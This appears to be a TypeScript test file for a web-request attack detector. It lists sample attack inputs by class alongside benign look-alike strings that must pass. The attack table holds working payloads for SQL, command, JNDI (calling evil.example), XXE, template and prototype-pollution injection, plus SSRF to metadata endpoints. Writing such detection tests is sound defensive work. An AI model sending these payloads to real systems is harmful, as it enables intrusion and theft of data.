// One table of attacks and look-alikes per class, through the public API (paranoia 2).

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileDetector, type Input } from '../index.ts';

const d = compileDetector();

const ATTACKS: Array<[string, Input]> = [
  ['sqli', { location: 'query', name: 'id', value: "1' UNION SELECT username, password FROM users--" }],
  ['sqli', { location: 'query', name: 'id', value: '1 AND SLEEP(5)' }],
  ['sqli', { location: 'form', name: 'u', value: "admin'--" }],
  ['xss', { location: 'query', name: 'q', value: '<img src=x onerror=alert(1)>' }],
  ['xss', { location: 'query', name: 'next', value: 'java\tscript:alert(document.domain)' }],
  ['xss', { location: 'body', name: '$.bio', value: '" autofocus onfocus="alert(1)' }],
  ['cmdi', { location: 'query', name: 'host', value: 'example.com; cat /etc/passwd' }],
  ['cmdi', { location: 'query', name: 'host', value: "127.0.0.1|w'h'o'a'm'i" }],
  ['cmdi', { location: 'query', name: 'cmd', value: 'x & for /f %i in (\'dir\') do echo %i' }],
  ['traversal', { location: 'query', name: 'file', value: '..%252f..%252f..%252fetc%252fpasswd' }],
  ['ssrf', { location: 'body', name: '$.url', value: 'http://0xA9FEA9FE/latest/meta-data/' }],
  ['ssrf', { location: 'query', name: 'url', value: 'http://[::ffff:127.0.0.1]:8080/admin' }],
  // 0.0.0.0 spelled as one number: Linux connects it to this machine.
  ['ssrf', { location: 'body', name: '$.url', value: 'https://0:13000/' }],
  ['ssrf', { location: 'body', name: '$.url', value: 'http://00:6379/' }],
  ['ssrf', { location: 'query', name: 'url', value: 'http://0x0:9901/api' }],
  ['nosqli', { location: 'json-key', name: '$.password.$ne', value: '$ne' }],
  ['nosqli', { location: 'query', name: 'password[$regex]', value: '.*' }],
  ['ssti', { location: 'query', name: 'name', value: "{{ ''.__class__.__mro__[1].__subclasses__() }}" }],
  ['jndi', { location: 'header', name: 'user-agent', value: '${${lower:j}${::-n}di:ldap://evil.example/a}' }],
  ['xxe', { location: 'xml', name: '#document', value: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' }],
  ['ldap', { location: 'form', name: 'user', value: '*)(uid=*))(|(uid=*' }],
  ['crlf', { location: 'query', name: 'next', value: '/home\r\nSet-Cookie: admin=1' }],
  ['shellshock', { location: 'header', name: 'user-agent', value: '() { :; }; /bin/bash -c id' }],
  ['java', { location: 'body', name: '$.x', value: "T(java.lang.Runtime).getRuntime().exec('id')" }],
  ['code-injection', { location: 'query', name: 'x', value: "require('child_process').exec('id')" }],
  ['proto-pollution', { location: 'query', name: '__proto__[isAdmin]', value: 'true' }],
  ['proto-pollution', { location: 'query', name: 'a[constructor][prototype][isAdmin]', value: '1' }],
  ['proto-pollution', { location: 'query', name: 'a[constructor].prototype.isAdmin', value: '1' }],
  ['proto-pollution', { location: 'json-key', name: '$.constructor.prototype', value: 'prototype' }],
  ['proto-pollution', { location: 'json-key', name: '$.user.constructor.prototype', value: 'prototype' }],  // Still attacks next to the short sentences among the look-alikes.
  ['sqli', { location: 'body', name: '$.comment', value: 'sleep(5) and 1=1' }],
  ['sqli', { location: 'body', name: '$.comment', value: 'select from users--' }],
  ['sqli', { location: 'body', name: '$.comment', value: "insert into users values (1, 'admin')" }],
  ['xss', { location: 'body', name: '$.comment', value: 'javascript: alert(1)' }],
  ['xss', { location: 'body', name: '$.comment', value: 'eval(atob(x))' }],
  ['code-injection', { location: 'body', name: '$.comment', value: "system('id')" }],
  ['cmdi', { location: 'body', name: '$.comment', value: "127.0.0.1;i'd" }],
];

const BENIGN: Input[] = [
  { location: 'query', name: 'q', value: "Patrick O'Brien's pub" },
  { location: 'body', name: '$.text', value: 'Use <b>bold</b> for emphasis; 3 < 5 and 7 > 2.' },
  { location: 'body', name: '$.url', value: 'https://api.example.com/v1/hooks?x=1' },
  { location: 'query', name: 'path', value: 'docs/guide/intro.md' },
  { location: 'body', name: '$.note', value: 'Select your size and drop it in the cart; update later.' },
  { location: 'json-key', name: '$.user_name', value: 'user_name' },
  { location: 'body', name: '$.tpl', value: 'Hello {{username}}, your order #{id} ships soon' },
  { location: 'json-key', name: '$.constructor', value: 'constructor' },
  { location: 'json-key', name: '$.design.prototype', value: 'prototype' },
  { location: 'json-key', name: '$.constructor.name', value: 'name' },
  { location: 'query', name: 'constructor', value: 'prototype' },
  // Short sentences (reviews, comments) that mention code.
  { location: 'body', name: '$.comment', value: "I'd rate it 5/5 -- great!" },
  { location: 'body', name: '$.comment', value: 'insert into the slot and press' },
  { location: 'body', name: '$.comment', value: 'javascript: the good parts' },
  { location: 'body', name: '$.comment', value: "sleep(5) isn't enough; I need 8 hours" },
  { location: 'body', name: '$.comment', value: 'nap time (sleep(20) mins)' },
  { location: 'body', name: '$.comment', value: 'eval() is evil' },
  { location: 'body', name: '$.comment', value: 'The system() call' },
  { location: 'body', name: '$.comment', value: "Where's the drop-down? I can't select from it -- weird" },
  { location: 'body', name: '$.comment', value: "The 'Select' button doesn't work" },
  { location: 'body', name: '$.comment', value: 'Use {% raw %} tags' },
];

test('each class catches its attacks', () => {
  for (const [cls, input] of ATTACKS) {
    const v = d.inspect([input]);
    assert.ok(v.blocked, `${cls} not blocked: ${input.value}`);
    assert.ok(v.matches.some((m) => m.class === cls), `${cls} expected, got ${v.matches.map((m) => m.class)} for ${input.value}`);
  }
});

test('look-alikes pass', () => {
  for (const input of BENIGN) assert.equal(d.inspect([input]).blocked, false, input.value);
});
